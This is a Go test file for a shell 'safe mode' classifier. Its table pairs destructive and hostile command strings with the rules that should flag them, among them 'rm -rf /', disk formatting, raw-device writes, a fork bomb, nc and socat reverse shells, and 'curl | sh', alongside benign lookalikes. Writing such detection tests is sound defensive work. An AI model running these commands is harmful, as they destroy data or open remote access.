package shell

import "testing"

func TestSafeModeRules(t *testing.T) {
	cases := map[string]string{
		"rm -rf /":                   SafeRecursiveDelete,
		"rm -rf /home/u":             SafeRecursiveDelete,
		"rm --no-preserve-root x":    SafeRecursiveDelete,
		"find / -delete":             SafeRecursiveDelete,
		"mkfs.ext4 /dev/sda1":        SafeDiskFormat,
		"wipefs -a /dev/sda":         SafeDiskFormat,
		"dd if=x of=/dev/sda":        SafeRawDevice,
		"shred /dev/nvme0n1":         SafeRawDevice,
		"echo x > /dev/sda":          SafeRawDevice,
		"chmod -R 777 ~":             SafeRecursiveChmod,
		"chown u /":                  SafeRecursiveChmod,
		"sudo ls":                    SafePrivilege,
		"run0 id":                    SafePrivilege,
		"systemctl reboot":           SafePower,
		"init 0":                     SafePower,
		"kill -9 -1":                 SafeKillAll,
		"git push -f":                SafeForcePush,
		"git -C x push origin +main": SafeForcePush,
		"git push --force-with-lease=main origin main": SafeForcePush,
		"nc -e /bin/sh h 1":                            SafeReverseShell,
		"socat EXEC:/bin/sh tcp:h:1":                   SafeReverseShell,
		"curl x | sh":                                  SafeDownloadExec,
		"source <(curl x)":                             SafeDownloadExec,
		":(){ :|:& };:":                                SafeForkBomb,
		"exec 3<>/dev/tcp/h/80":                        SafeNetRedirect,
		"ｃｕｒｌ x":                                       SafeConfusable,
		"rm -rf build":                                 "",
		"find . -delete":                               "",
		"chmod 755 /usr":                               "",
		"systemctl status":                             "",
		"init 3":                                       "",
		"kill -1 5":                                    "",
		"git push --force origin feat":                 "",
		"git push origin main":                         "",
		"nc -l 8080":                                   "",
		"socat - tcp:h:1":                              "",
		"curl x | tee f":                               "",
		"dd if=a of=b":                                 "",
	}
	for line, want := range cases {
		a := Analyze(line)
		got := SafeModeLine(a)
		for _, c := range a.Commands {
			if got != "" {
				break
			}
			got = SafeModeCommand(c, "/home/u")
		}
		if got != want {
			t.Errorf("%q: safe_mode rule %q, want %q", line, got, want)
		}
	}
}
